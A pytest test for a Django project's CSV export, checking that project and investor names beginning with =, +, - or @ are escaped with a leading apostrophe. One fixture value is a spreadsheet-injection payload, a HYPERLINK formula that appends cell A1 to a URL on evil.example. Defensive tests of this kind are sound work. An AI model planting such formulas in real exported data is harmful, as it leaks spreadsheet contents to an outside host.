"""The project directory's CSV, with a project name a spreadsheet would run as a formula."""

import csv
import io

import pytest

from projects.models import Investor
from projects.tests.builders import make_project


@pytest.mark.django_db
def test_project_csv_neutralises_formula_cells(client, park):
    investor = Investor.objects.create(name_vi="+84 Trading =1+1")
    make_project(investor, name_vi='=HYPERLINK("http://evil.example/?"&A1,"Mở")', products_vi="-Gỗ ván ép")
    response = client.get("/vi/projects/export.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    cells = [cell for row in rows[1:] for cell in row]
    assert '\'=HYPERLINK("http://evil.example/?"&A1,"Mở")' in cells
    assert "'+84 Trading =1+1" in cells
    assert "'-Gỗ ván ép" in cells
    assert not any(cell.startswith(("=", "+", "@", "-")) for cell in cells)
